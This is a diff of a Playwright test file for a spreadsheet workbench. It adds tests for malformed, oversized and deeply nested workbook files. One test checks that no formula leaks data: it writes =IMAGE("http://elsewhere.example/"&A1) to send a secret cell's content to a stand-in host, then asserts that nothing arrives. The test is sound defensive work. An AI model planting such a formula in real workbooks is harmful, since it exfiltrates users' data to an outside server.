@@ -1,37 +1,15 @@
 import { readFileSync } from "node:fs";
 import path from "node:path";
 import type { Page } from "playwright-core";
-import type { Workbench } from "../../src/workbench/workbench";
 import type { WorkbookContent } from "../../src/workbench/content";
 import { readXlsx } from "../../src/workbench/xlsx/readXlsx";
 import { writeXlsx } from "../../src/workbench/xlsx/writeXlsx";
+import { packXlsx } from "../workbench/xlsx/packXlsx";
 import { openWorkbench } from "../support/openWorkbench";
 import { spreadsheet } from "../support/spreadsheet";
+import { openFile, saveFile } from "../support/workbookFiles";
 
 const customFunctions = { namespace: "KPI", names: ["GRADE", "TIERCOMMISSION"] };
-
-/** Bytes do not cross into the page; their text does. */
-async function open(page: Page, bytes: Uint8Array): Promise<string | null> {
-  return page.evaluate(async (base64) => {
-    const { workbench } = window as unknown as { workbench: Workbench };
-    const decoded = Uint8Array.from(atob(base64), (character) => character.charCodeAt(0));
-    return workbench.open(decoded).then(
-      () => null,
-      (error: unknown) => (error instanceof Error ? error.message : String(error)),
-    );
-  }, Buffer.from(bytes).toString("base64"));
-}
-
-async function save(page: Page): Promise<Uint8Array> {
-  const base64 = await page.evaluate(async () => {
-    const { workbench } = window as unknown as { workbench: Workbench };
-    const bytes = await workbench.save();
-    let text = "";
-    for (const byte of bytes) text += String.fromCharCode(byte);
-    return btoa(text);
-  });
-  return new Uint8Array(Buffer.from(base64, "base64"));
-}
 
 function sheetOf(rows: number, columns: number): WorkbookContent {
   const cells = Array.from({ length: rows * columns }, (_, i) => ({
@@ -70,7 +48,7 @@ test("a saved workbook holds values, tables, names, and custom functions as Exce
   ]);
   await cells.setFormulas("Pay!D1", [["=KPI.TIERCOMMISSION(50000,A1:B2)"]]);
   await cells.settled();
-  const saved = await save(page);
+  const saved = await saveFile(page);
   const { sheets } = await readXlsx(saved, { customFunctions });
   const pay = sheets.find(({ name }) => name === "Pay");
   // 400 + 10,000 × 2 %
@@ -85,7 +63,7 @@ test("a saved workbook holds values, tables, names, and custom functions as Exce
     "数据9月",
   ]);
 
-  expect(await open(page, saved)).toBeNull();
+  expect(await openFile(page, saved)).toBeNull();
   await cells.settled();
   expect(await cells.getValues("Pay!D1")).toEqual([[600]]);
   expect(await cells.getFormulas("Pay!D1")).toEqual([["=KPI.TIERCOMMISSION(50000,A1:B2)"]]);
@@ -96,12 +74,12 @@ test.each([
   ["half a file", readFileSync(path.resolve("assets/samples/customer-service.xlsx")).subarray(0, 5_000)],
 ])("%s is refused with a message, and the open workbook stays", async (_, bytes) => {
   const before = await cells.sheets();
-  expect(await open(page, bytes)).toMatch(/\w+ .*\w+/);
+  expect(await openFile(page, bytes)).toMatch(/\w+ .*\w+/);
   expect(await cells.sheets()).toEqual(before);
 });
 
 test("a sheet of 5,000 rows and 10 columns opens, exact to the last cell", async () => {
-  expect(await open(page, await writeXlsx(sheetOf(5_000, 10), { customFunctions }))).toBeNull();
+  expect(await openFile(page, await writeXlsx(sheetOf(5_000, 10), { customFunctions }))).toBeNull();
   await cells.settled();
   expect(await cells.getValues("Large!J5000")).toEqual([[49_999]]);
 });
@@ -118,4 +96,84 @@ test("numbers stay exact, errors and spilled cells are read", async () => {
     [1 / 3, 1, ""],
   ]);
   expect(await cells.message("Exact!C2")).toContain("expected a number, found “x”");
+});
+
+const ONE_ROW = '<sheetData><row r="1"><c r="A1"><v>1</v></c><c r="B1"><f>A1+1</f></c></row></sheetData>';
+
+function merging(area: string): Uint8Array {
+  return packXlsx({ sheet: `${ONE_ROW}<mergeCells><mergeCell ref="${area}"/></mergeCells>` });
+}
+
+test.each(["A1:AH1", "A1:XFD1", "A2:C900", "A1:XFD1048576"])("a file that merges %s opens", async (area) => {
+  expect(await openFile(page, merging(area))).toBeNull();
+  await cells.settled();
+  expect(await cells.getValues("Sheet1!A1")).toEqual([[1]]);
+});
+
+// No file is known that the grid fails on; here the page itself fails, when the table gets its id.
+test("a failure in the middle of opening leaves the workbook as it was, and it computes on", async () => {
+  await cells.addSheet("Unsaved");
+  await cells.setValues("Unsaved!A1:A2", [[1], [2]]);
+  await cells.setFormulas("Unsaved!B1", [["=SUM(A1:A2)"]]);
+  await cells.settled();
+  const before = await cells.sheets();
+  const table =
+    '<table id="1" name="T" displayName="T" ref="A1:B3"><tableColumns><tableColumn id="1" name="a"/><tableColumn id="2" name="b"/></tableColumns></table>';
+  await page.evaluate(() => {
+    crypto.getRandomValues = () => {
+      throw new Error("no more random numbers");
+    };
+  });
+  const problem = await openFile(page, packXlsx({ sheet: ONE_ROW.replace(/<.?sheetData>/g, ""), tables: [table] }));
+  await page.evaluate(() => Reflect.deleteProperty(crypto, "getRandomValues"));
+  expect(problem).toBe("no more random numbers");
+  expect(await cells.sheets()).toEqual(before);
+  await cells.setValues("Unsaved!A1", [[40]]);
+  await cells.settled();
+  expect(await cells.getValues("Unsaved!A1:B2")).toEqual([
+    [40, 42],
+    [2, ""],
+  ]);
+});
+
+test("a sheet that is a web page is refused", async () => {
+  const html = "<html><body><table><tr><td>1</td></tr></table></body></html>";
+  const problem = await openFile(page, packXlsx({ files: { "xl/worksheets/sheet1.xml": html } }));
+  expect(problem).toContain("“html” where a worksheet belongs");
+});
+
+// Excel allows 64 levels; one formula beyond all limits must not keep the others from being computed.
+test.each([
+  ["functions", `${"ABS(".repeat(5_000)}A1${")".repeat(5_000)}`],
+  ["brackets", `${"(1+".repeat(5_000)}A1${")".repeat(5_000)}`],
+])("5,000 nested %s are #VALUE!, and the rest is computed", async (_, formula) => {
+  const sheet = `<row r="1"><c r="A1"><v>1</v></c><c r="B1"><f>${formula}</f></c><c r="C1"><f>A1+1</f></c></row>`;
+  expect(await openFile(page, packXlsx({ sheet }))).toBeNull();
+  await cells.settled();
+  expect(await cells.getValues("Sheet1!A1:C1")).toEqual([[1, "#VALUE!", 2]]);
+});
+
+test("10,000 defined names open in seconds, and compute", async () => {
+  const names = Array.from({ length: 10_000 }, (_, i) => `<definedName name="n_${i}">Sheet1!$A$${i + 1}</definedName>`);
+  const sheet = '<row r="1"><c r="A1"><v>5</v></c><c r="B1"><f>n_0*2</f></c></row>';
+  const bytes = packXlsx({ sheet, workbook: { names: `<definedNames>${names.join("")}</definedNames>` } });
+  const start = Date.now();
+  expect(await openFile(page, bytes)).toBeNull();
+  await cells.settled();
+  expect(Date.now() - start).toBeLessThan(15_000);
+  expect(await cells.getValues("Sheet1!A1:B1")).toEqual([[5, 10]]);
+});
+
+test("no formula sends the content of a cell out", async () => {
+  const reached: string[] = [];
+  await cells.addSheet("Secret");
+  await cells.setValues("Secret!A1", [["secret"]]);
+  await page.route("http://elsewhere.example/**", (route) => {
+    reached.push(route.request().url());
+    return route.abort();
+  });
+  await cells.setFormulas("Secret!B1", [['=IMAGE("http://elsewhere.example/"&A1)']]);
+  await cells.settled();
+  await page.waitForTimeout(1_000);
+  expect(reached).toEqual([]);
 });
